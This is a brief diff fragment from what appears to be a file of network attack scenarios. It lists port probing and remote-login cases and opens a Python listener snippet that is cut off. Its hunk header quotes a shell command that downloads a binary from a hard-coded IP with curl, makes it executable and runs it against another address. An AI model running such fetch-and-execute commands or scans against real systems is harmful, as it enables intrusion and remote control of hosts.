@@ -99,7 +99,6 @@ curl -s -o /tmp/x http://10.9.8.7:8000/connect; chmod +x /tmp/x; /tmp/x tcp4 203
 ## Ports tried, then a login
 #also Ports tried by code without a file
 #also SSH or a remote desktop spoken by a stranger
-#also Services of neighbours asked one after another
 #setup listener 22
 python3 -c '
 import socket
